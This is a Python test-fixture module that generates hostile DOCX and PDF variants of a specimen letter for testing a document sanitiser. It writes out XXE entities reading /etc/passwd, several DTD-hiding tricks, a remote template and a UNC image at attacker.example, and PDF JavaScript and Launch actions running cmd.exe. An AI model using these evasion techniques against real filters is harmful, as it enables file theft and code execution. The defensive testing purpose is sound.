"""Generators of hostile DOCX and PDF variants, built from a real specimen letter each time.

Shared by the reader, mail-path and web-form tests. Each variant is a function of the clean
file, so it works for any letter the specimen generator makes.
"""
from __future__ import annotations

import io
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DTD = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def rezip(docx: bytes, replace: dict[str, bytes] | None = None,
          add: dict[str, bytes] | None = None) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(docx))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            out.writestr(item.filename, (replace or {}).get(item.filename,
                                                             src.read(item.filename)))
        for name, data in (add or {}).items():
            out.writestr(name, data)
    return buf.getvalue()


def _part(docx: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(docx)).read(name)


def _after_decl(xml: bytes, insert: bytes) -> bytes:
    """INSERT right after the XML declaration (or at the start when there is none)."""
    if xml.startswith(b"<?xml"):
        end = xml.index(b"?>") + 2
        return xml[:end] + insert + xml[end:]
    return insert + xml


def docx_doctype_after_comment(docx: bytes) -> bytes:
    """The DOCTYPE sits behind a 64 KB comment: past any fixed-size head check."""
    doc = _part(docx, "word/document.xml")
    return rezip(docx, {"word/document.xml": _after_decl(doc, b"<!--" + b"x" * 65536 + b"-->"
                                                           + DTD)})


def docx_doctype_in_other_part(docx: bytes) -> bytes:
    """An ENTITY in a part Paraf never reads (customXml)."""
    return rezip(docx, add={"customXml/item9.xml": b'<?xml version="1.0"?>' + DTD + b"<d>&x;</d>"})


def docx_doctype_utf16(docx: bytes) -> bytes:
    """document.xml re-encoded as UTF-16 with a BOM: the bytes '<!DOCTYPE' never occur."""
    doc = _part(docx, "word/document.xml").decode("utf-8")
    doc = doc.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    doc = _after_decl(doc.encode(), DTD).decode()
    return rezip(docx, {"word/document.xml": "\ufeff".encode("utf-16-le")
                        + doc.encode("utf-16-le")})


def docx_doctype_utf16_no_bom(docx: bytes) -> bytes:
    """UTF-16 big-endian, no BOM, a few blank lines first: only a decoder finds the DTD."""
    doc = _part(docx, "word/document.xml").decode("utf-8")
    doc = doc.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    doc = "\n\n" + _after_decl(doc.encode(), DTD).decode()
    return rezip(docx, {"word/document.xml": doc.encode("utf-16-be")})


def docx_doctype_lowercase_spaced(docx: bytes) -> bytes:
    doc = _part(docx, "word/document.xml")
    return rezip(docx, {"word/document.xml": _after_decl(doc, b"\n\n<!doctype d>")})


def docx_macro(docx: bytes) -> bytes:
    """A VBA project with its relationship, content type unchanged (a .docx that lies)."""
    return rezip(docx, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})


def docx_external_template(docx: bytes) -> bytes:
    """settings.xml.rels pointing at a remote .dotm: Word fetches it on open."""
    rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
            f'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    return rezip(docx, add={"word/_rels/settings.xml.rels": rels.encode()})


def _external_rel(docx: bytes, kind: str, target: str) -> bytes:
    """DOCX with one more external relationship of KIND in document.xml.rels."""
    rels = _part(docx, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="rId9{len(kind)}" Type="{REL}/{kind}" Target="{target}" '
        f'TargetMode="External"/></Relationships>'.encode())
    return rezip(docx, {"word/_rels/document.xml.rels": rels})


def docx_linked_image(docx: bytes) -> bytes:
    return _external_rel(docx, "image", "\\\\attacker.example\\s\\x.png")


def docx_hyperlink(docx: bytes) -> bytes:
    """A clickable link to the OPD's site: not active content, must still be read."""
    return _external_rel(docx, "hyperlink", "https://opd.example.go.id/")


HOSTILE_DOCX = {
    "doctype-after-comment": docx_doctype_after_comment,
    "entity-in-custom-xml": docx_doctype_in_other_part,
    "doctype-utf16": docx_doctype_utf16,
    "doctype-utf16-no-bom": docx_doctype_utf16_no_bom,
    "doctype-lowercase": docx_doctype_lowercase_spaced,
    "macro": docx_macro,
    "external-template": docx_external_template,
    "linked-image": docx_linked_image,
}


# -- PDF --------------------------------------------------------------------------------------
def _edit(pdf_bytes: bytes, change, **save) -> bytes:
    with pikepdf.open(io.BytesIO(pdf_bytes)) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, **save)
    return out.getvalue()


def _js(pdf, code="app.alert('x')"):
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def pdf_openaction_js(data: bytes) -> bytes:
    return _edit(data, lambda p: setattr(p.Root, "OpenAction", _js(p)))


def pdf_launch(data: bytes) -> bytes:
    def change(p):
        p.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"),
                                       Next=_js(p))
    return _edit(data, change)


def pdf_page_aa(data: bytes) -> bytes:
    def change(p):
        p.pages[0].obj.AA = Dictionary(O=_js(p))
    return _edit(data, change)


def pdf_embedded_file(data: bytes) -> bytes:
    def change(p):
        p.attachments["lampiran.exe"] = pikepdf.AttachedFileSpec(p, b"MZ" + b"\0" * 200)
    return _edit(data, change)


def pdf_xfa(data: bytes) -> bytes:
    def change(p):
        p.Root.AcroForm = Dictionary(Fields=Array(), XFA=p.make_stream(b"<xdp:xdp/>"))
    return _edit(data, change)


def pdf_js_name_tree(data: bytes) -> bytes:
    """Document-level JavaScript in /Names, hidden in a compressed object stream."""
    def change(p):
        p.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _js(p)])))
    return _edit(data, change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_link_launch(data: bytes) -> bytes:
    """A link annotation that launches a program when clicked."""
    def change(p):
        annot = p.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 800]),
            A=Dictionary(S=Name.Launch, F=String("calc.exe"))))
        p.pages[0].obj.Annots = Array([annot])
    return _edit(data, change)


def pdf_richmedia(data: bytes) -> bytes:
    def change(p):
        annot = p.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 10, 10]),
            RichMediaContent=Dictionary(Assets=Dictionary())))
        p.pages[0].obj.Annots = Array([annot])
    return _edit(data, change)


def pdf_obfuscated_name(data: bytes) -> bytes:
    """'/J#61vaScript' is '/JavaScript' to a reader; a byte search misses it."""
    raw = pdf_openaction_js(data)
    return raw.replace(b"/JavaScript", b"/J#61vaScript")


HOSTILE_PDF = {
    "openaction-js": pdf_openaction_js,
    "launch": pdf_launch,
    "page-aa": pdf_page_aa,
    "embedded-file": pdf_embedded_file,
    "xfa": pdf_xfa,
    "js-name-tree": pdf_js_name_tree,
    "link-launch": pdf_link_launch,
    "richmedia": pdf_richmedia,
    "obfuscated-name": pdf_obfuscated_name,
}


def active_left(data: bytes) -> set[str]:
    """What a reader would still find active in DATA (empty for a clean file)."""
    from pipeline.letter.pdf_active import scrub
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return scrub(pdf)
